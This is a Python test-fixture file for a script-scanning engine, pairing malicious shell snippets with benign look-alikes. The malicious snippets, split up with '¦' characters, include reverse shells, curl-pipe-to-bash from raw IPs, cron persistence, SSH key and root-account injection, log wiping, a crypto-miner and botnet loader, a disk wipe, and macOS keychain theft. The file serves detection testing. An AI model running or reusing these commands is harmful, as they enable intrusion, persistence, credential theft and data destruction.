# ruff: noqa: E501 -- a line of a script is one line here, too
from tests.engine.script_texts import pair, plain64

CRON = '(crontab -l; echo "* * * * * /dev/shm/.x") | cron¦tab -\n'
MINE = "./xm¦rig -o stra¦tum+tcp://pool.example.com:3333 -u a\n"

CASES = {
    "shell.reverse_shell": pair(
        "a.sh",
        "bash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1\n",
        "timeout 1 bash -c '</dev/tcp/localhost/80' && echo open\n",
    ),
    "shell.reverse_shell_one_liner": pair(
        "a.sh",
        'perl -e \'use So¦cket;$i="192.0.2.1";socket(S,PF_INET,SOCK_STREAM,6);connect(S,a);exec("/bin/sh -i");\'\n',
        "perl -e 'use Socket; print inet_ntoa(inet_aton(\"localhost\"))'\n",
    ),
    "shell.curl_pipe": pair(
        "a.sh", "cu¦rl -fsSL https://example.com/install.sh | sh\n", "curl -fsSL https://example.com/list.txt | sort\n"
    ),
    "shell.curl_pipe_raw": pair(
        "a.sh", "cu¦rl -s http://45.9.148.1/i.sh | ba¦sh\n", "curl -s http://127.0.0.1:8080/health | sort\n"
    ),
    "shell.encoded_pipe": pair(
        "a.sh", f"echo {plain64('echo hello world; date')} | base64 -d | ba¦sh\n", "base64 -d key.b64 > key.bin\n"
    ),
    "shell.cron_download": pair("a.sh", CRON, '(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -\n'),
    "shell.ssh_key_added": pair(
        "a.sh", f"echo 'ssh-rsa AAAA{'B' * 80} x' >> ~/.ssh/author¦ized_keys\n", "cat ~/.ssh/authorized_keys\n"
    ),
    "shell.history_off": pair("a.sh", "unset HIST¦FILE\n", "HISTSIZE=1000\n"),
    "shell.preload_rootkit": pair("a.sh", "echo /usr/lib/x.so > /etc/ld.so.pre¦load\n", "cat /etc/ld.so.conf\n"),
    "shell.log_wipe": pair("a.sh", "cat /dev/null > /var/log/wt¦mp\n", "last -f /var/log/wtmp\n"),
    "shell.protection_off": pair(
        "a.sh", "/usr/local/aegis/uninst¦all.sh\npkill aliyun-service\n", "systemctl status aliyun.service\n"
    ),
    "shell.rivals_killed": pair("a.sh", "pki¦ll -9 kin¦sing\npki¦ll -9 kdevtmp¦fsi\n", "pkill -HUP nginx\n"),
    "shell.miner_setup": pair("a.sh", MINE + CRON, "./server -o http://example.com:3333\n"),
    "shell.fetch_chmod_run": pair(
        "a.sh",
        "wg¦et https://example.com/tool\nchm¦od +x tool\n./tool\n",
        "wget https://example.com/tool.tar.gz\ntar xf tool.tar.gz\n",
    ),
    "shell.fetch_run_raw": pair(
        "a.sh",
        "wg¦et http://45.9.148.1/tool\nchm¦od +x tool\n./tool\n",
        "wget https://example.com/tool\nchmod +x tool\n./tool\n",
    ),
    "shell.botnet_loader": pair(
        "a.sh",
        "cd /t¦mp || cd /var/run || cd /mnt\nwget http://45.9.148.1/bot.mi¦ps; chmod 777 bot.mi¦ps; ./bot.mi¦ps\n",
        "cd /tmp || exit 1\nwget https://example.com/image.mips.tar.gz\n",
    ),
    "shell.disk_wipe": pair(
        "a.sh", "dd if=/dev/ze¦ro of=/dev/sd¦a bs=1M\n", "dd if=/dev/zero of=disk.img bs=1M count=10\n"
    ),
    "shell.mac_password": pair(
        "a.sh",
        'p=$(osas¦cript -e \'display dia¦log "Password" default answer "" with hidden an¦swer\')\ncp ~/Library/Keychains/login.keychain-db /tmp/k\n',
        "osascript -e 'display dialog \"The backup is done\"'\n",
    ),
    "shell.account_added": pair("a.sh", "echo 'x:y:0:0:r:/root:/bin/sh' >> /etc/pass¦wd\n", "useradd -m worker\n"),
}
